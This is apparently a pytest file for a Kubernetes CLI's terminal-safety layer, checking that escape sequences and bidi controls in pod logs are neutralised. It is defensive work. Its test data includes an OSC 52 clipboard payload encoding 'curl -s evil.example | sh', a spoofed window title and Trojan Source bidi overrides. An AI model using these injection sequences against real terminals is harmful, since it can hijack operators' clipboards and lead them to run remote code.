"""Terminal safety (helm_nemo/terminal_text.py, docs/security.md): no escape sequence or control character of
a log reaches the operator's terminal through status, logs, logs --errors or metrics; JSON keeps the text,
escaped. The sequences are spelled as ECMA-48 and xterm's ctlseqs define them, or taken from the terminfo
database; the logs are the corpus's real ones with sequences inserted, as a program in a pod would print them.
"""

from __future__ import annotations

import base64
import json
import random
import re
import subprocess
import sys
import unicodedata
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings, strategies as st

import status_states as S
from helm_nemo.cli.group import main
from helm_nemo.terminal_text import Stream, escape_json, safe
from kube_emulator import KubeEmulator

ROOT = Path(__file__).resolve().parent.parent
REAL = ROOT / "tests" / "logs" / "real"
OOM = REAL / "gpu" / "cuda-oom"

BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl -s evil.example | sh\n").decode() + "\x07"
TITLE = "\x1b]0;root@prod: ~\x1b\\"


def unsafe(text: str) -> list[str]:
    """What a terminal could act on or that hides text, judged by Unicode's own tables (not the module's):
    control characters but newline and tab, and the bidi controls."""
    return [c for c in text if (unicodedata.category(c) == "Cc" and c not in "\n\t") or c in BIDI]


# (what, the text, what safe() makes of it)
CASES = [
    ("CSI colour", "\x1b[1;31mERROR\x1b[0m loss nan", "ERROR loss nan"),
    ("CSI cursor and erase", "done\x1b[2K\x1b[1A\x1b[10;1Hok", "doneok"),
    ("CSI device status report (the terminal answers on its input)", "a\x1b[6nb", "ab"),
    ("CSI private mode", "\x1b[?1049h\x1b[?25lscreen", "screen"),
    ("CSI 8-bit", "a\x9b31mred\x9b0m", "ared"),
    ("CSI cut at the line's end", "a\x1b[31\nb", "a\nb"),
    ("OSC 52 clipboard, BEL", f"x {CLIPBOARD} y", "x \\x1b]52;c;Y3VybCAtcyBldmlsLmV…\\x07 y"),
    ("OSC 52 clipboard, ST", "x\x1b]52;c;aGk=\x1b\\y", "x\\x1b]52;c;aGk=\\x1b\\y"),
    ("OSC 0 window title", f"{TITLE}step 3", "\\x1b]0;root@prod: ~\\x1b\\step 3"),
    (
        "OSC 8 hyperlink",
        "\x1b]8;;http://x.example/\x1b\\docs\x1b]8;;\x1b\\",
        "\\x1b]8;;http://x.example/\\x1b\\docs\\x1b]8;;\\x1b\\",
    ),
    ("OSC 8-bit, 8-bit ST", "a\x9d0;title\x9cb", "a\\x9d0;title\\x9cb"),
    ("OSC unterminated: cut at the line's end", "a\x1b]0;title\nnext line\n", "a\\x1b]0;title\nnext line\n"),
    ("OSC unterminated at the end", "a\x1b]52;c;aGk=", "a\\x1b]52;c;aGk="),
    ("OSC aborted by another escape", "a\x1b]0;t\x1b[31mred", "a\\x1b]0;tred"),
    ("DCS (sixel)", "a\x1bPq#0;2;0;0;0#0~~@@\x1b\\b", "a\\x1bPq#0;2;0;0;0#0~~@@\\x1b\\b"),
    ("DCS 8-bit", 'a\x90$q"p\x9cb', 'a\\x90$q"p\\x9cb'),
    ("SOS", "a\x1bXhidden\x1b\\b", "a\\x1bXhidden\\x1b\\b"),
    ("SOS 8-bit", "a\x98hidden\x9cb", "a\\x98hidden\\x9cb"),
    ("PM", "a\x1b^private\x1b\\b", "a\\x1b^private\\x1b\\b"),
    ("PM 8-bit", "a\x9eprivate\x9cb", "a\\x9eprivate\\x9cb"),
    ("APC", "a\x1b_Gf=100;AAAA\x1b\\b", "a\\x1b_Gf=100;AAAA\\x1b\\b"),
    ("APC 8-bit", "a\x9fGf=100\x9cb", "a\\x9fGf=100\\x9cb"),
    ("ESC c: full reset", "a\x1bcb", "a\\x1bcb"),
    ("ESC 7 / ESC 8: save and restore the cursor", "\x1b7over\x1b8", "\\x1b7over\\x1b8"),
    ("charset designation", "\x1b(0lqqk\x1b(B", "lqqk"),
    ("lone ESC", "a\x1b", "a\\x1b"),
    ("ESC before a non-ASCII character", "a\x1bé", "a\\x1bé"),
    ("stray ST", "a\x1b\\b", "a\\x1b\\b"),
    ("C0 controls", "a\x00b\x07c\x08d\x0be\x0cf\x1ag", "a\\x00b\\x07c\\x08d\\x0be\\x0cf\\x1ag"),
    ("DEL", "a\x7fb", "a\\x7fb"),
    ("C1 controls (NEL, ST alone)", "a\x85b\x9cc", "a\\x85b\\x9cc"),
    ("CR LF", "a\r\nb\r\n", "a\nb\n"),
    ("CR redraws (a progress bar)", " 10%|#  |\r 20%|## |\r", " 10%|#  |\n 20%|## |\n"),
    (
        "bidi override (Trojan Source)",
        "access = \u202e} \u2066// admin\u2069 \u2066",
        "access = \\u202e} \\u2066// admin\\u2069 \\u2066",
    ),
    (
        "bidi embeddings and marks",
        "\u202aa\u202b\u202c\u200e\u200f\u061c",
        "\\u202aa\\u202b\\u202c\\u200e\\u200f\\u061c",
    ),
    ("zero-width space, BOM, word joiner", "pass\u200bword\ufeff\u2060", "pass\\u200bword\\ufeff\\u2060"),
    ("line separator", "a\u2028b", "a\\u2028b"),
    ("tag characters (invisible ASCII)", "ok\U000e0069\U000e0067", "ok\\U000e0069\\U000e0067"),
]


@pytest.mark.parametrize("what, text, expected", CASES, ids=[c[0] for c in CASES])
def test_each_kind_of_sequence(what, text, expected):
    out = safe(text)
    assert out == expected, what
    assert not unsafe(out) and "\x1b" not in out
    assert safe(out) == out  # idempotent


NORMAL = [
    "训练 step 3/100 | loss 2.31 | 损失 ✅",
    "🚀 launched 8 ranks\t(👩‍💻 ZWJ sequence, ❤️ variation selector)",
    "ابدأ‌التدريب ZWNJ, עברית, Ελληνικά, русский, 日本語のログ",
    "col1\tcol2\t\tcol3\n\n  indented\n",
    "path C:\\Users\\x and the text \\x1b (a backslash, not an escape)",
    "",
]


@pytest.mark.parametrize("text", NORMAL)
def test_normal_text_passes_unchanged(text):
    assert safe(text) is text  # the fast path: the same object, not a copy


def test_the_corpus_logs_pass_unchanged_but_for_carriage_returns():
    """Every real log of the corpus: the same text, but CR LF and lone CR as newlines."""
    logs = [p for p in REAL.rglob("*") if p.is_file() and p.suffix in (".log", ".txt")]
    assert len(logs) > 100
    for path in logs:
        text = path.read_text(encoding="utf-8", errors="replace")
        assert safe(text) == text.replace("\r\n", "\n").replace("\r", "\n"), path


DANGER = "\x1b\x9b\x9d\x90\x98\x9e\x9f\x9c\x07\r\n\t\x00\x7f\x85[]P^_X\\;0123m(B\u202e\u2066\u200b\U000e0041aé训"


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=DANGER, max_size=60))
def test_any_mix_is_safe_idempotent_and_keeps_plain_lines(text):
    out = safe(text)
    assert not unsafe(out)
    assert safe(out) == out
    # a line with nothing to clean comes out whole: a sequence never swallows the next line
    for line in text.split("\n")[1:-1]:
        if not unsafe(line) and all(c not in line for c in "\r\u200b\U000e0041\x1b"):
            assert f"\n{line}\n" in f"\n{out}\n"


def in_pieces(text: str, cuts: list[int]) -> str:
    stream, pieces, start = Stream(), [], 0
    for cut in [*cuts, len(text)]:
        pieces.append(stream.feed(text[start:cut]))
        start = cut
    return "".join(pieces) + stream.close()


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=DANGER, max_size=40), st.data())
def test_a_stream_in_pieces_prints_what_the_whole_prints(text, data):
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=4)))
    assert in_pieces(text, cuts) == safe(text)


@pytest.mark.parametrize(
    "text, cuts, printed",
    [
        # ESC, then an 8-bit CSI, then "]": a lone ESC and a plain "]" (the CSI aborts the escape), not an OSC
        # whose body runs on: found by the property above in CI (a CSI removed before the other tokens joined
        # the ESC and the "]"; the stream, holding the DCS back, printed something else than the whole)
        ("\x1b\x9bB]\x90", [], "\\x1b]\\x90"),
        ("\r\x1b[0m\n", [4], "\n\n"),  # CR, CSI, LF: two line ends, in one piece or two
        ("\r\x9b3\x9bB[^", [], "\n[^"),  # two CSIs in a row after a CR: removed as two, not joined into one
    ],
)
def test_what_a_stream_prints_is_what_the_whole_prints(text, cuts, printed):
    assert safe(text) == printed and in_pieces(text, cuts) == printed and in_pieces(text, []) == printed


def test_a_stream_in_pieces_at_every_cut_of_5000_mixes():
    """The property above over a fixed sample (a seeded generator: the same cases each run), every text cut at
    up to four random places: 300,000 such cases found no difference when the stream was rewritten."""
    rng = random.Random(41)
    for _ in range(5_000):
        text = "".join(rng.choice(DANGER) for _ in range(rng.randint(0, 40)))
        cuts = sorted(rng.randint(0, len(text)) for _ in range(rng.randint(0, 4)))
        assert in_pieces(text, cuts) == safe(text), (text, cuts)


def test_a_progress_bar_is_printed_as_it_is_redrawn():
    """`logs -f` prints a piece up to its last line end: a CR followed by the next redraw is one."""
    stream = Stream()
    assert stream.feed("step 1\rstep 2\rst") == "step 1\nstep 2\n" and stream.feed("ep 3\n") == "step 3\n"
    assert stream.feed("done\r") == "" and stream.close() == "done\n"  # a CR at the end may be a CR LF's


def test_every_sequence_of_xterms_terminfo_entry_is_made_safe():
    """The strings terminals are driven with, from the terminfo database (xterm-256color), expanded."""
    curses = pytest.importorskip("curses")
    curses.setupterm("xterm-256color", sys.stdout.fileno() if sys.stdout.isatty() else 1)
    names = (
        "setaf setab sgr0 bold rev smul sitm blink invis clear ed el el1 cup cuu cud cuf cub hpa vpa home sc rc "
        "smcup rmcup civis cnorm cvvis flash bel rs1 rs2 is2 u6 u7 u8 u9 smacs rmacs enacs smkx rmkx ind ri "
        "il dl ich dch ech csr tbc hts ht cbt Ms Se Ss kmous XM"
    ).split()
    found = 0
    for name in names:
        cap = curses.tigetstr(name)
        if not cap:
            continue
        found += 1
        if b"%s" in cap:  # string parameters (Ms: the clipboard's name and text): tparm takes numbers only
            cap = re.sub(rb"%p(\d)%s", lambda m: [b"c", b"aGk="][int(m[1]) - 1], cap)
        text = (curses.tparm(cap, 4, 7) if b"%p" in cap else cap).decode("latin-1")
        out = safe(f"a{text}b")
        assert not unsafe(out), (name, text, out)
    assert found > 40


def test_json_keeps_the_text_escaped():
    texts = [f"step {CLIPBOARD}{TITLE}", "a\x9b31m\x9d0;t\x9c\x85\x7f", "\u202e\u2066\ufeff\U000e0041", "训练 ✅"]
    for ensure_ascii in (False, True):
        document = escape_json(json.dumps({"lines": texts}, ensure_ascii=ensure_ascii))
        assert json.loads(document) == {"lines": texts}
        assert not unsafe(document) and (document.isascii() or not ensure_ascii)
    raw = json.dumps({"lines": texts}, ensure_ascii=False)
    assert unsafe(raw)  # json.dumps alone leaves C1, DEL and the bidi controls raw
    plain = json.dumps({"a": "训练 ✅ é"}, ensure_ascii=False)
    assert escape_json(plain) is plain


# ---- the commands


def _poisoned_oom(folder: Path) -> str:
    """The real two-node OOM run (tests/logs/real/gpu/cuda-oom) with a clipboard write and a window title
    inside rank 1's OutOfMemoryError line, as a program in the pod could print them."""
    folder.mkdir(parents=True, exist_ok=True)
    for path in OOM.glob("node-*.log"):
        text = path.read_text(encoding="utf-8")
        if path.name == "node-1.log":
            anchor = "CUDA out of memory. Tried"
            assert anchor in text
            text = text.replace(anchor, f"CUDA out of memory.{CLIPBOARD} {TITLE} \u202eTried", 1)
        (folder / path.name).write_text(text, encoding="utf-8")
    return str(folder)


def _logs_errors(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "helm_nemo", "logs", "--errors", *args], capture_output=True, text=True, cwd=ROOT
    )


def test_logs_errors_file_prints_no_escape_of_the_log(tmp_path):
    folder = _poisoned_oom(tmp_path / "logs")
    from helm_nemo.diagnose import diagnose_paths, render

    unsanitized = render.text(diagnose_paths([folder]), what="file(s)")
    assert "\x1b]52;c;" in unsanitized  # what reached the terminal before: the test can fail
    run = _logs_errors("--file", folder)
    assert run.returncode == 1, run.stderr
    assert run.stdout.startswith("FAILED: cuda-oom: "), run.stdout
    assert "\x1b" not in run.stdout and not unsafe(run.stdout)
    assert "CUDA out of memory.\\x1b]52;c;Y3VybCAtcyBldmlsLmV…\\x07 \\x1b]0;root@prod: ~\\x1b\\ \\u202eTried" in (
        run.stdout
    )
    document = _logs_errors("--file", folder, "-o", "json")
    assert not unsafe(document.stdout)
    cause = json.loads(document.stdout)["cause"]["text"]
    assert f"{CLIPBOARD} {TITLE} \u202eTried" in cause  # the text is kept, escaped


def test_metrics_of_a_poisoned_log_print_no_escape(tmp_path):
    source = REAL / "public" / "megatron-deepspeed-396-grad-norm-nan" / "log.txt"
    lines = source.read_text(encoding="utf-8").split("\n")
    lines[0] = lines[0].replace(" | ", f" | {TITLE}", 1)
    log = tmp_path / "log.txt"
    log.write_text("\n".join(lines), encoding="utf-8")
    args = ["metrics", "--file", str(log), "--start-step", "5425", "--end-step", "5427"]
    args += ["--batch-size", "8", "--gpus", "8", "--model-flops", "1e12", "--peak-tflops", "989"]
    text = CliRunner().invoke(main, args, catch_exceptions=False)
    assert text.exit_code == 0, text.output
    assert text.output.startswith("FAILED: the run failed: nan-loss (line 1)"), text.output
    assert "\\x1b]0;root@prod: ~\\x1b\\" in text.output and not unsafe(text.output)
    document = CliRunner().invoke(main, [*args, "--json"], catch_exceptions=False)
    assert not unsafe(document.output)
    assert TITLE in json.loads(document.output)["failure"]["text"]


RELEASE = "llama-test"


@pytest.fixture
def cluster(tmp_path):
    with KubeEmulator(ready=False) as kube:
        kube.env = {"KUBECONFIG": str(kube.kubeconfig(tmp_path / "kubeconfig", namespace=S.NS)), "HELM_NAMESPACE": S.NS}
        yield kube


def _failed_pod(cluster, tmp_path) -> str:
    cluster.put(S.jobset(RELEASE, 1))
    cluster.put(S.pod(RELEASE, 0, statuses=[S.terminated("Error", 1, S.T0, restarts=1, state="crash")]))
    name = S.pod(RELEASE, 0)["metadata"]["name"]
    poisoned = Path(_poisoned_oom(tmp_path / "logs")) / "node-1.log"
    cluster.write_log(S.NS, name, "starting again\n")
    cluster.write_log(S.NS, name, poisoned.read_text(encoding="utf-8"), previous=True, at=S.T0 - timedelta(minutes=1))
    return name


def test_status_and_logs_errors_from_the_cluster_print_no_escape(cluster, tmp_path):
    _failed_pod(cluster, tmp_path)
    for command in (["status", RELEASE], ["logs", RELEASE, "--errors"]):
        result = CliRunner().invoke(main, command, env=cluster.env, catch_exceptions=False)
        assert result.exit_code == 1, result.output
        assert "\\x1b]52;c;" in result.output, result.output  # the log's line is there, made visible
        assert "\x1b" not in result.output and not unsafe(result.output), command
        document = CliRunner().invoke(main, [*command, "-o", "json"], env=cluster.env, catch_exceptions=False)
        assert not unsafe(document.output)
        assert any(CLIPBOARD in text for text in strings(json.loads(document.output))), command


def strings(value: object) -> list[str]:
    """Every string inside a JSON value."""
    if isinstance(value, str):
        return [value]
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return [text for item in items for text in strings(item)]


def test_status_watch_clears_the_screen_itself_but_prints_no_escape_of_the_log(cluster, tmp_path):
    from helm_nemo.actions import status as action
    from helm_nemo.kube import connect

    _failed_pod(cluster, tmp_path)
    printed: list[str] = []
    client = connect([], env=cluster.env)
    action.status([RELEASE], client, watch=True, interval=1, out=printed.append, tty=True, max_refreshes=1)
    (screen,) = printed
    assert screen.startswith(action.CLEAR)
    body = screen[len(action.CLEAR) :]
    assert "\\x1b]52;c;" in body and not unsafe(body)


def test_plain_logs_on_a_terminal_are_made_safe_and_piped_are_passed_through(cluster, tmp_path):
    from helm_nemo.actions import status as action
    from helm_nemo.kube import connect

    cluster.put(S.jobset(RELEASE, 1))
    cluster.put(S.pod(RELEASE, 0))
    name = S.pod(RELEASE, 0)["metadata"]["name"]
    text = (OOM / "node-1.log").read_text(encoding="utf-8")
    cut = random.Random(0).randrange(len(text))
    text = text[:cut] + CLIPBOARD + text[cut:]
    cluster.write_log(S.NS, name, text)
    piped = CliRunner().invoke(main, ["logs", RELEASE], env=cluster.env, catch_exceptions=False)
    assert piped.output.endswith(text)  # not a terminal: the pod's text as it wrote it, as kubectl prints it
    client = connect([], env=cluster.env)
    shown: list[str] = []
    code = action.logs([RELEASE], client, out=shown.append, err=lambda _: None, terminal=True)
    assert code == 0 and "".join(shown) == safe(text) and not unsafe("".join(shown))
    assert "\\x1b]52;c;" in "".join(shown)
